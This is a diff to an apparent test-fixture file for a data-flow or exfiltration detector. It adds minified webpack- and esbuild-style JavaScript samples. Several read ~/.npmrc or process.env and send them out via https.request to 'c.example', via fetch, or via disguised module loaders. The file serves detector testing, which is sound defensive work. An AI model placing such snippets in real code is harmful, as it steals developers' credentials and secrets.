@@ -328,6 +328,26 @@ const COMPILED: readonly Row[] = [
 /** Put in one place and taken from another, without either naming the other. */
 const CHANNELS: readonly Row[] = [
   [
+    'modules in a table, as webpack has them',
+    '(()=>{var e={896:e=>{"use strict";e.exports=require("fs")},692:e=>{e.exports=require("https")},11:(e,t,r)=>{const n=r(896);t.grab=()=>n.readFileSync(process.env.HOME+"/.npmrc")},12:(e,t,r)=>{const n=r(692);t.put=e=>{const t=n.request({hostname:"c.example",method:"POST"});t.write(e),t.end()}}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}(()=>{const t=r(11),o=r(12);o.put(t.grab())})()})();',
+  ],
+  [
+    'modules with getters, as webpack has them',
+    '(()=>{var e={11:(e,t,r)=>{r.d(t,{A:()=>n});const n=()=>process.env}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n].call(s.exports,s,s.exports,r),s.exports}(()=>{var o=r(11);SEND«JSON.stringify((0,o.A)())»})()})();',
+  ],
+  [
+    'modules around a function, as esbuild has them',
+    'var n=Object.getOwnPropertyNames;var __commonJS=(cb,mod)=>function __require(){return mod||(0,cb[n(cb)[0]])((mod={exports:{}}).exports,mod),mod.exports};var require_a=__commonJS({"a.js"(exports,module){module.exports.grab=()=>process.env}});var require_b=__commonJS({"b.js"(exports,module){module.exports=function(d){SEND«JSON.stringify(d)»}}});var {grab}=require_a();var send=require_b();send(grab())',
+  ],
+  [
+    'a function that loads',
+    "const load=(n)=>require(n);const h=load('https');h.request('x').end(load('fs').readFileSync(process.env.HOME+'/.npmrc'))",
+  ],
+  [
+    'a function that loads by the loader behind',
+    "const M=process.mainModule?.constructor??module.constructor;const load=(n)=>M._load(n,null,false);load('http'+'s').request('x').end(load('fs').readFileSync(process.env.HOME+'/.npmrc'))",
+  ],
+  [
     'a service that a constructor is given',
     "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class C{constructor(t){this.t=t} go(){this.t.send(process.env)}} new C(new T()).go()",
   ],
@@ -699,6 +719,10 @@ const STAYS: readonly Row[] = [
   [
     'another service of the same class',
     "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class L{send(p){this.p=p}} class C{constructor(t,l){this.t=t;this.l=l} go(){this.l.send(process.env);this.t.send('x')}} new C(new T(),new L()).go()",
+  ],
+  [
+    'another module of the table',
+    '(()=>{var e={11:(e,t,r)=>{t.a=()=>process.env},12:(e,t,r)=>{t.a=()=>1}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}(()=>{SEND«JSON.stringify(r(12).a())»})()})();',
   ],
   [
     'another part of a message',
